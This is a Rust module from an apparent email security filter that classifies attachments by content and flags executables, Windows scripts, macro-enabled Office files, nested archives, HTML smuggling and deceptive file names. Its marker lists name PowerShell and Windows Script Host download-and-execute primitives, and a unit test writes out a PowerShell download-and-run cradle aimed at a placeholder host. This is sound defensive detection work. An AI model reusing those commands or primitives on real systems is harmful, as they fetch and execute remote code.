//! Attachments, judged by their content: executables, scripts, macro-enabled Office files,
//! archives (opened and inspected to a depth), encrypted archives, HTML smuggling, and file
//! names that lie (`invoice.pdf.exe`).

use std::io::{Cursor, Read};

use aho_corasick::AhoCorasick;

use crate::check::{Check, Symbols};
use crate::config::Limits;
use crate::mail::Mail;
use crate::symbols::*;

/// What the first bytes of a file say it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// An executable; the text describes which.
    Executable(&'static str),
    /// A Windows script or script container.
    Script(&'static str),
    /// A `#!` script.
    UnixScript,
    /// An OLE compound file (legacy Office, MSI, …).
    Ole,
    Zip,
    Gzip,
    Tar,
    /// An archive or disk image this engine does not open.
    Unscannable(&'static str),
    Html,
    Rtf,
    Pdf,
    /// Text without any of the markers above (so far).
    Text,
    Other,
}

/// Classifies a file by its leading bytes (and, for text, markers in its first 256 KiB).
pub fn sniff(data: &[u8]) -> Kind {
    let d = data.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(data);
    let starts = |m: &[u8]| d.starts_with(m);
    if starts(b"MZ") {
        let pe = d
            .get(0x3C..0x40)
            .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize)
            .and_then(|off| d.get(off..off.checked_add(4)?))
            .is_some_and(|sig| sig == b"PE\0\0");
        return Kind::Executable(if pe {
            "Windows PE executable"
        } else {
            "DOS/MZ executable"
        });
    }
    if starts(b"\x7FELF") {
        return Kind::Executable("ELF executable");
    }
    if starts(b"\xFE\xED\xFA\xCE")
        || starts(b"\xFE\xED\xFA\xCF")
        || starts(b"\xCE\xFA\xED\xFE")
        || starts(b"\xCF\xFA\xED\xFE")
    {
        return Kind::Executable("Mach-O executable");
    }
    if starts(b"\xCA\xFE\xBA\xBE") {
        let n = d
            .get(4..8)
            .map_or(0, |b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]));
        return Kind::Executable(if n < 40 {
            "Mach-O universal executable"
        } else {
            "Java class file"
        });
    }
    if starts(b"\x4C\x00\x00\x00\x01\x14\x02\x00") {
        return Kind::Executable("Windows shortcut (LNK)");
    }
    if starts(b"#!/") || starts(b"#! /") {
        return Kind::UnixScript;
    }
    if starts(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1") {
        return Kind::Ole;
    }
    if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") || starts(b"PK\x07\x08") {
        return Kind::Zip;
    }
    if starts(b"\x1F\x8B") {
        return Kind::Gzip;
    }
    if d.get(257..262) == Some(b"ustar") {
        return Kind::Tar;
    }
    let unscannable: &[(&[u8], &str)] = &[
        (b"Rar!\x1A\x07", "RAR archive"),
        (b"7z\xBC\xAF\x27\x1C", "7-Zip archive"),
        (b"MSCF", "Windows cabinet"),
        (b"\xFD7zXZ\x00", "xz archive"),
        (b"BZh", "bzip2 archive"),
        (b"\x60\xEA", "ARJ archive"),
        (b"conectix", "virtual hard disk (VHD)"),
        (b"vhdxfile", "virtual hard disk (VHDX)"),
    ];
    for (magic, what) in unscannable {
        if starts(magic) {
            return Kind::Unscannable(what);
        }
    }
    if d.get(7..14) == Some(b"**ACE**") {
        return Kind::Unscannable("ACE archive");
    }
    if [0x8001, 0x8801, 0x9001]
        .iter()
        .any(|&o| d.get(o..o + 5) == Some(b"CD001"))
    {
        return Kind::Unscannable("ISO disk image");
    }
    if starts(b"ITSF") {
        return Kind::Script("compiled HTML help (CHM)");
    }
    if starts(b"{\\rtf") {
        return Kind::Rtf;
    }
    if d.get(..1024).unwrap_or(d).windows(5).any(|w| w == b"%PDF-") {
        return Kind::Pdf;
    }
    let head = &d[..d.len().min(4096)];
    if head.contains(&0) {
        return Kind::Other;
    }
    let lower: Vec<u8> = head
        .iter()
        .skip_while(|b| b.is_ascii_whitespace())
        .take(1024)
        .map(u8::to_ascii_lowercase)
        .collect();
    let html_starts: [&[u8]; 8] = [
        b"<!doctype html",
        b"<html",
        b"<head",
        b"<body",
        b"<script",
        b"<svg",
        b"<meta",
        b"<iframe",
    ];
    if html_starts.iter().any(|m| lower.starts_with(m)) || lower.windows(5).any(|w| w == b"<html") {
        return Kind::Html;
    }
    Kind::Text
}

/// Windows runs these by name.
const DANGEROUS_EXTENSIONS: &[&str] = &[
    "ade",
    "adp",
    "appx",
    "appxbundle",
    "application",
    "bat",
    "cab",
    "chm",
    "cmd",
    "com",
    "cpl",
    "dll",
    "exe",
    "gadget",
    "hta",
    "img",
    "inf",
    "ins",
    "iso",
    "isp",
    "jar",
    "js",
    "jse",
    "lnk",
    "msc",
    "msi",
    "msix",
    "msp",
    "mst",
    "pif",
    "ps1",
    "psm1",
    "reg",
    "scf",
    "scr",
    "sct",
    "shb",
    "shs",
    "url",
    "vb",
    "vbe",
    "vbs",
    "vhd",
    "vhdx",
    "wsc",
    "wsf",
    "wsh",
    "xll",
];

/// Extensions people trust.
const DOCUMENT_EXTENSIONS: &[&str] = &[
    "7z", "avi", "bmp", "csv", "doc", "docx", "eml", "gif", "htm", "html", "jpeg", "jpg", "mov",
    "mp3", "mp4", "msg", "odp", "ods", "odt", "pdf", "png", "ppt", "pptx", "rar", "rtf", "tif",
    "tiff", "txt", "wav", "xls", "xlsx", "xml", "zip",
];

/// Markers of HTML smuggling, in order: see [`smuggling`].
const SMUGGLING_MARKERS: &[&str] = &[
    "mssaveoropenblob",                 // 0
    "new blob",                         // 1
    "atob(",                            // 2
    "createobjecturl",                  // 3
    ".download",                        // 4
    "download=",                        // 5
    "data:application/octet-stream",    // 6
    "data:application/x-msdownload",    // 7
    "data:application/x-msdos-program", // 8
    "data:application/zip",             // 9
    "data:application/x-zip",           // 10
    "data:application/x-rar",           // 11
    "data:application/vnd.ms-",         // 12
    "data:application/x-iso9660",       // 13
    "data:application/hta",             // 14
    ";base64,tvqq",                     // 15: "MZ\x90" in base64
    ";base64,uesdb",                    // 16: "PK\x03\x04" in base64
    "uint8array",                       // 17
];

/// Markers of Windows scripts, in order: see [`script_kind`].
const SCRIPT_MARKERS: &[&str] = &[
    "<hta:application",                   // 0
    "wscript.shell",                      // 1
    "wscript.createobject",               // 2
    "shell.application",                  // 3
    "scripting.filesystemobject",         // 4
    "adodb.stream",                       // 5
    "msxml2.xmlhttp",                     // 6
    "msxml2.serverxmlhttp",               // 7
    "winhttp.winhttprequest",             // 8
    "createobject(",                      // 9
    "activexobject(",                     // 10
    "getobject(",                         // 11
    "invoke-expression",                  // 12
    "iex(",                               // 13
    "-encodedcommand",                    // 14
    "frombase64string(",                  // 15
    "net.webclient",                      // 16
    "downloadstring(",                    // 17
    "downloadfile(",                      // 18
    "invoke-webrequest",                  // 19
    "start-bitstransfer",                 // 20
    "-executionpolicy bypass",            // 21
    "<scriptlet",                         // 22
    "<registration",                      // 23
    "<job",                               // 24
    "string.fromcharcode",                // 25
    "eval(",                              // 26
    "unescape(",                          // 27
    "[system.reflection.assembly]::load", // 28
];

/// The MSI class identifier of an OLE root storage.
const MSI_CLSID: &str = "000c1084-0000-0000-c000-000000000046";

/// Screens attachments.
pub struct AttachmentCheck {
    limits: Limits,
    smuggling: AhoCorasick,
    scripts: AhoCorasick,
}

impl AttachmentCheck {
    pub fn new(limits: Limits) -> Self {
        let build = |pats: &[&str]| {
            AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(pats)
                // Fixed, small literal lists cannot fail to build; an empty matcher is the
                // fallback.
                .or_else(|_| AhoCorasick::new(Vec::<&str>::new()))
                .unwrap_or_else(|_| unreachable!())
        };
        Self {
            limits,
            smuggling: build(SMUGGLING_MARKERS),
            scripts: build(SCRIPT_MARKERS),
        }
    }

    /// Which markers of a list occur in `text` (first 4 MiB).
    fn markers(ac: &AhoCorasick, text: &[u8], n: usize) -> Vec<bool> {
        let mut seen = vec![false; n];
        let text = &text[..text.len().min(4 << 20)];
        for m in ac.find_overlapping_iter(text) {
            seen[m.pattern().as_usize()] = true;
        }
        seen
    }

    /// Why an HTML document is smuggling a file, if it is.
    fn smuggling(&self, html: &[u8], attached: bool) -> Option<&'static str> {
        let m = Self::markers(&self.smuggling, html, SMUGGLING_MARKERS.len());
        if (6..=16).any(|i| m[i]) {
            return Some("carries an executable or archive as a data: URI");
        }
        if !attached {
            return None;
        }
        if m[0] {
            return Some("saves a file through msSaveOrOpenBlob");
        }
        let builds = m[1] || m[2] || m[17];
        let saves = m[3] || m[4] || m[5];
        (builds && saves).then_some("builds a Blob in script and saves it as a download")
    }

    fn script_kind(&self, text: &[u8]) -> Option<&'static str> {
        let lead: Vec<u8> = text
            .iter()
            .skip_while(|b| b.is_ascii_whitespace())
            .take(9)
            .map(u8::to_ascii_lowercase)
            .collect();
        if lead.starts_with(b"@echo off") {
            return Some("Windows batch file");
        }
        let m = Self::markers(
            &self.scripts,
            &text[..text.len().min(256 << 10)],
            SCRIPT_MARKERS.len(),
        );
        if m[0] {
            return Some("HTML application (HTA)");
        }
        if (1..=8).any(|i| m[i]) && (9..=11).any(|i| m[i]) {
            return Some("Windows Script Host script (VBScript/JScript)");
        }
        if (12..=21).any(|i| m[i]) || m[28] {
            return Some("PowerShell script");
        }
        if m[22] && m[23] {
            return Some("Windows script component (SCT)");
        }
        if m[24] && m[9] {
            return Some("Windows script file (WSF)");
        }
        if m[26] && (m[25] || m[27]) {
            return Some("obfuscated JavaScript");
        }
        None
    }
}

impl Check for AttachmentCheck {
    fn name(&self) -> &'static str {
        "attachments"
    }

    fn check(&self, mail: &Mail<'_>, out: &mut Symbols<'_>) {
        for a in &mail.attachments {
            let mut ins = Inspector {
                check: self,
                budget: self.limits.max_archive_bytes,
                out: &mut *out,
            };
            let label = a.name.as_deref().unwrap_or("(unnamed attachment)");
            ins.inspect(&display(label), a.name.as_deref(), &a.data, 0);
        }
        for body in &mail.html_raw {
            if let Some(why) = self.smuggling(body.as_bytes(), false) {
                out.add(ATTACH_HTML_SMUGGLING, format!("the HTML body {why}"));
            }
        }
    }
}

/// A file name made safe to show: control and bidirectional characters escaped, length capped.
fn display(name: &str) -> String {
    let mut s: String = name
        .chars()
        .take(80)
        .map(|c| if c.is_control() || is_bidi(c) { '?' } else { c })
        .collect();
    if name.chars().count() > 80 {
        s.push('…');
    }
    s
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

struct Inspector<'c, 's, 'w> {
    check: &'c AttachmentCheck,
    /// Bytes still allowed to be decompressed for this attachment.
    budget: usize,
    out: &'s mut Symbols<'w>,
}

impl Inspector<'_, '_, '_> {
    fn inspect(&mut self, path: &str, name: Option<&str>, data: &[u8], depth: usize) {
        if let Some(name) = name {
            self.check_name(path, name);
        }
        match sniff(data) {
            Kind::Executable(what) => self.out.add(ATTACH_EXECUTABLE, format!("{path}: {what}")),
            Kind::Script(what) => self.out.add(ATTACH_SCRIPT, format!("{path}: {what}")),
            Kind::UnixScript => self
                .out
                .add(ATTACH_UNIX_SCRIPT, format!("{path}: #! script")),
            Kind::Ole => self.inspect_ole(path, data, depth),
            Kind::Zip => self.inspect_zip(path, data, depth),
            Kind::Gzip => self.inspect_gzip(path, name, data, depth),
            Kind::Tar => self.inspect_tar(path, data, depth),
            Kind::Unscannable(what) => self.out.add(
                ATTACH_ARCHIVE_UNSCANNABLE,
                format!("{path}: {what} cannot be scanned"),
            ),
            Kind::Html => {
                self.out.add(ATTACH_HTML, format!("{path}: HTML file"));
                if let Some(why) = self.check.smuggling(data, true) {
                    self.out
                        .add(ATTACH_HTML_SMUGGLING, format!("{path}: {why}"));
                }
                if let Some(what) = self.check.script_kind(data)
                    && what != "obfuscated JavaScript"
                {
                    self.out.add(ATTACH_SCRIPT, format!("{path}: {what}"));
                }
            }
            Kind::Rtf => {
                if contains_any(data, &[b"\\objdata", b"\\objupdate", b"\\objemb"]) {
                    self.out.add(
                        ATTACH_RTF_OBJECT,
                        format!("{path}: RTF with an embedded object"),
                    );
                }
            }
            Kind::Pdf => {
                if contains_any(data, &[b"/JavaScript", b"/Launch"]) {
                    self.out.add(
                        ATTACH_PDF_ACTIVE,
                        format!("{path}: PDF with JavaScript or a launch action"),
                    );
                }
            }
            Kind::Text => {
                if let Some(what) = self.check.script_kind(data) {
                    self.out.add(ATTACH_SCRIPT, format!("{path}: {what}"));
                }
            }
            Kind::Other => {}
        }
    }

    fn check_name(&mut self, path: &str, name: &str) {
        if name.chars().any(is_bidi) {
            self.out.add(
                ATTACH_BIDI_NAME,
                format!("{path}: the name hides its real extension with a bidirectional control"),
            );
        }
        let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
        let clean = base.trim().trim_end_matches(['.', ' ']).to_lowercase();
        let mut exts = clean.rsplit('.');
        let last = exts.next().unwrap_or_default();
        if !clean.contains('.') || !DANGEROUS_EXTENSIONS.contains(&last) {
            return;
        }
        let prev = exts
            .next()
            .map(str::trim)
            .filter(|_| clean.matches('.').count() >= 2);
        if let Some(prev) = prev
            && (DOCUMENT_EXTENSIONS.contains(&prev) || base.contains("   "))
        {
            self.out.add(
                ATTACH_DOUBLE_EXTENSION,
                format!("{path}: .{prev} followed by .{last}"),
            );
        } else {
            self.out
                .add(ATTACH_DANGEROUS_NAME, format!("{path}: .{last} file"));
        }
    }

    fn inspect_zip(&mut self, path: &str, data: &[u8], depth: usize) {
        let limits = &self.check.limits;
        if depth >= limits.max_archive_depth {
            self.out.add(
                ATTACH_ARCHIVE_LIMIT,
                format!(
                    "{path}: archives nested deeper than {}",
                    limits.max_archive_depth
                ),
            );
            return;
        }
        let mut zip = match zip::ZipArchive::new(Cursor::new(data)) {
            Ok(z) => z,
            Err(e) => {
                self.out.add(
                    ATTACH_ARCHIVE_UNSCANNABLE,
                    format!("{path}: unreadable zip ({})", short_error(&e.to_string())),
                );
                return;
            }
        };
        let n = zip.len();
        if n > limits.max_archive_entries {
            self.out.add(
                ATTACH_ARCHIVE_LIMIT,
                format!("{path}: {n} members (limit {})", limits.max_archive_entries),
            );
        }
        let names: Vec<String> = zip
            .file_names()
            .filter_map(Result::ok)
            .map(std::borrow::Cow::into_owned)
            .collect();
        let ooxml = names.iter().any(|n| n == "[Content_Types].xml");
        if let Some(vba) = names
            .iter()
            .find(|n| n.to_ascii_lowercase().ends_with("vbaproject.bin"))
        {
            let kind = if ooxml {
                "Office Open XML document"
            } else {
                "zip"
            };
            self.out.add(
                ATTACH_MACRO_OFFICE,
                format!("{path}: {kind} with macros ({})", display(vba)),
            );
        }
        for i in 0..n.min(limits.max_archive_entries) {
            let (name, encrypted, is_dir) = match zip.by_index_raw(i) {
                Ok(f) => (
                    f.name()
                        .map(std::borrow::Cow::into_owned)
                        .unwrap_or_else(|_| String::from_utf8_lossy(f.name_raw()).into_owned()),
                    f.encrypted(),
                    f.is_dir(),
                ),
                Err(e) => {
                    self.out.add(
                        ATTACH_ARCHIVE_UNSCANNABLE,
                        format!(
                            "{path}: unreadable member ({})",
                            short_error(&e.to_string())
                        ),
                    );
                    continue;
                }
            };
            let member_path = format!("{path}/{}", display(&name));
            if encrypted {
                self.out.add(
                    ATTACH_ENCRYPTED_ARCHIVE,
                    format!("{member_path}: password-protected, cannot be scanned"),
                );
                continue;
            }
            if is_dir {
                continue;
            }
            if ooxml {
                // Office parts are XML; only embedded objects can carry code.
                let lower = name.to_ascii_lowercase();
                if !(lower.contains("embeddings/") || lower.ends_with(".bin")) {
                    continue;
                }
            }
            let cap = limits.max_member_bytes.min(self.budget);
            let mut buf = Vec::new();
            let read = match zip.by_index(i) {
                Ok(f) => f.take(cap as u64 + 1).read_to_end(&mut buf),
                Err(e) => {
                    self.out.add(
                        ATTACH_ARCHIVE_UNSCANNABLE,
                        format!(
                            "{member_path}: cannot be unpacked ({})",
                            short_error(&e.to_string())
                        ),
                    );
                    continue;
                }
            };
            if let Err(e) = read {
                self.out.add(
                    ATTACH_ARCHIVE_UNSCANNABLE,
                    format!(
                        "{member_path}: cannot be unpacked ({})",
                        short_error(&e.to_string())
                    ),
                );
                if buf.is_empty() {
                    continue;
                }
            }
            if buf.len() > cap {
                buf.truncate(cap);
                self.out.add(
                    ATTACH_ARCHIVE_LIMIT,
                    format!("{member_path}: unpacks past the {cap}-byte limit"),
                );
            }
            self.budget -= buf.len();
            self.inspect(&member_path, Some(&name), &buf, depth + 1);
            if self.budget == 0 {
                return;
            }
        }
    }

    fn inspect_gzip(&mut self, path: &str, name: Option<&str>, data: &[u8], depth: usize) {
        let limits = &self.check.limits;
        if depth >= limits.max_archive_depth {
            self.out.add(
                ATTACH_ARCHIVE_LIMIT,
                format!(
                    "{path}: archives nested deeper than {}",
                    limits.max_archive_depth
                ),
            );
            return;
        }
        let cap = limits.max_member_bytes.min(self.budget);
        let mut buf = Vec::new();
        let read = flate2::read::GzDecoder::new(data)
            .take(cap as u64 + 1)
            .read_to_end(&mut buf);
        if read.is_err() && buf.is_empty() {
            self.out
                .add(ATTACH_ARCHIVE_UNSCANNABLE, format!("{path}: corrupt gzip"));
            return;
        }
        if buf.len() > cap {
            buf.truncate(cap);
            self.out.add(
                ATTACH_ARCHIVE_LIMIT,
                format!("{path}: unpacks past the {cap}-byte limit"),
            );
        }
        self.budget -= buf.len();
        let inner = name.map(|n| {
            let l = n.to_ascii_lowercase();
            if l.ends_with(".tgz") {
                format!("{}.tar", &n[..n.len() - 4])
            } else if l.ends_with(".gz") {
                n[..n.len() - 3].to_string()
            } else {
                n.to_string()
            }
        });
        let inner_path = format!(
            "{path}/{}",
            inner.as_deref().map_or("(gunzipped)".into(), display)
        );
        self.inspect(&inner_path, inner.as_deref(), &buf, depth + 1);
    }

    fn inspect_tar(&mut self, path: &str, data: &[u8], depth: usize) {
        let limits = &self.check.limits;
        if depth >= limits.max_archive_depth {
            self.out.add(
                ATTACH_ARCHIVE_LIMIT,
                format!(
                    "{path}: archives nested deeper than {}",
                    limits.max_archive_depth
                ),
            );
            return;
        }
        let mut off = 0usize;
        let mut count = 0usize;
        while let Some(h) = off.checked_add(512).and_then(|end| data.get(off..end)) {
            if h.iter().all(|&b| b == 0) {
                break;
            }
            count += 1;
            if count > limits.max_archive_entries {
                self.out.add(
                    ATTACH_ARCHIVE_LIMIT,
                    format!("{path}: more than {} members", limits.max_archive_entries),
                );
                break;
            }
            let name_end = h[..100].iter().position(|&b| b == 0).unwrap_or(100);
            let name = String::from_utf8_lossy(&h[..name_end]).into_owned();
            let size_field = std::str::from_utf8(&h[124..136]).unwrap_or("");
            let size =
                usize::from_str_radix(size_field.trim_matches(|c: char| c == '\0' || c == ' '), 8)
                    .unwrap_or(0);
            let body = off + 512;
            let end = body.saturating_add(size).min(data.len());
            if matches!(h[156], b'0' | 0) {
                let member_path = format!("{path}/{}", display(&name));
                self.inspect(
                    &member_path,
                    Some(&name),
                    &data[body.min(end)..end],
                    depth + 1,
                );
            }
            off = body.saturating_add(size.div_ceil(512).saturating_mul(512));
        }
    }

    fn inspect_ole(&mut self, path: &str, data: &[u8], depth: usize) {
        let ole = match cfb::CompoundFile::open(Cursor::new(data)) {
            Ok(c) => c,
            Err(e) => {
                self.out.add(
                    ATTACH_OLE_UNREADABLE,
                    format!(
                        "{path}: unreadable OLE file ({})",
                        short_error(&e.to_string())
                    ),
                );
                return;
            }
        };
        if ole.root_entry().clsid().to_string() == MSI_CLSID {
            self.out.add(
                ATTACH_EXECUTABLE,
                format!("{path}: Windows Installer package"),
            );
            return;
        }
        let mut vba = false;
        let mut natives = Vec::new();
        for (count, e) in ole.walk().enumerate() {
            if count > 10_000 {
                break;
            }
            let name = e.name();
            if (e.is_storage()
                && (name.eq_ignore_ascii_case("VBA")
                    || name == "_VBA_PROJECT_CUR"
                    || name == "Macros"))
                || (e.is_stream() && name.eq_ignore_ascii_case("_VBA_PROJECT"))
            {
                vba = true;
            }
            if e.is_stream() && name == "\u{1}Ole10Native" {
                natives.push(e.path().to_path_buf());
            }
        }
        if vba {
            self.out.add(
                ATTACH_MACRO_OFFICE,
                format!("{path}: OLE document with a VBA project"),
            );
        }
        let mut ole = ole;
        for p in natives.into_iter().take(16) {
            let limit = self.check.limits.max_member_bytes.min(self.budget);
            let mut buf = Vec::new();
            if let Ok(s) = ole.open_stream(&p) {
                let _ = s.take(limit as u64).read_to_end(&mut buf);
            }
            self.budget -= buf.len();
            if let Some((label, payload)) = ole10_native(&buf) {
                let member_path = format!("{path}/{}", display(&label));
                self.inspect(&member_path, Some(&label), payload, depth + 1);
            }
        }
    }
}

/// The embedded file of an `Ole10Native` stream (an OLE "Package" object): its label and
/// bytes. Layout: u32 size, u16 flags, label\0, source path\0, u32, u32, temp path\0,
/// u32 data size, data.
fn ole10_native(buf: &[u8]) -> Option<(String, &[u8])> {
    let mut p = 6usize;
    let cstr = |p: &mut usize| -> Option<String> {
        let rest = buf.get(*p..)?;
        let end = rest.iter().position(|&b| b == 0)?;
        let s = String::from_utf8_lossy(&rest[..end]).into_owned();
        *p += end + 1;
        Some(s)
    };
    let label = cstr(&mut p)?;
    let _source = cstr(&mut p)?;
    p += 8;
    let _temp = cstr(&mut p)?;
    let size = buf.get(p..p + 4)?;
    let size = u32::from_le_bytes([size[0], size[1], size[2], size[3]]) as usize;
    p += 4;
    let end = p.saturating_add(size).min(buf.len());
    Some((label, buf.get(p..end)?))
}

fn contains_any(data: &[u8], needles: &[&[u8]]) -> bool {
    let data = &data[..data.len().min(16 << 20)];
    needles
        .iter()
        .any(|n| data.windows(n.len()).any(|w| w == *n))
}

fn short_error(e: &str) -> String {
    e.chars().take(80).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sniffs() {
        let mut pe = vec![0u8; 0x100];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3C] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        assert_eq!(sniff(&pe), Kind::Executable("Windows PE executable"));
        assert_eq!(sniff(b"MZ"), Kind::Executable("DOS/MZ executable"));
        assert_eq!(
            sniff(b"\x7FELF\x02\x01"),
            Kind::Executable("ELF executable")
        );
        assert_eq!(
            sniff(b"\xCF\xFA\xED\xFE...."),
            Kind::Executable("Mach-O executable")
        );
        assert_eq!(
            sniff(b"\xCA\xFE\xBA\xBE\0\0\0\x02"),
            Kind::Executable("Mach-O universal executable")
        );
        assert_eq!(
            sniff(b"\xCA\xFE\xBA\xBE\0\0\0\x34"),
            Kind::Executable("Java class file")
        );
        assert_eq!(sniff(b"#!/bin/sh\necho hi"), Kind::UnixScript);
        assert_eq!(sniff(b"Rar!\x1A\x07\x00"), Kind::Unscannable("RAR archive"));
        assert_eq!(sniff(b"  <!DOCTYPE html><html>"), Kind::Html);
        assert_eq!(sniff(b"%PDF-1.7"), Kind::Pdf);
        assert_eq!(sniff(b"hello"), Kind::Text);
        assert_eq!(sniff(b""), Kind::Text);
        assert_eq!(sniff(b"\x89PNG\r\n\x1a\n\0\0"), Kind::Other);
    }

    #[test]
    fn scripts_by_content() {
        let c = AttachmentCheck::new(Limits::default());
        let k = |s: &str| c.script_kind(s.as_bytes());
        assert_eq!(
            k("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"x\""),
            Some("Windows Script Host script (VBScript/JScript)")
        );
        assert_eq!(
            k("var s = new ActiveXObject('WScript.Shell');"),
            Some("Windows Script Host script (VBScript/JScript)")
        );
        assert_eq!(
            k("IEX (New-Object Net.WebClient).DownloadString('http://x')"),
            Some("PowerShell script")
        );
        assert_eq!(k("<HTA:APPLICATION ID=x>"), Some("HTML application (HTA)"));
        assert_eq!(k("\r\n@ECHO OFF\r\ndel x"), Some("Windows batch file"));
        assert_eq!(k("Dear all, the minutes are attached."), None);
    }

    #[test]
    fn ole10_native_payload() {
        let mut b = vec![0u8; 6];
        b.extend_from_slice(b"run.exe\0C:\\run.exe\0");
        b.extend_from_slice(&[0; 8]);
        b.extend_from_slice(b"C:\\tmp\\run.exe\0");
        b.extend_from_slice(&2u32.to_le_bytes());
        b.extend_from_slice(b"MZ");
        assert_eq!(ole10_native(&b), Some(("run.exe".to_string(), &b"MZ"[..])));
        assert_eq!(ole10_native(&b[..10]), None);
    }
}
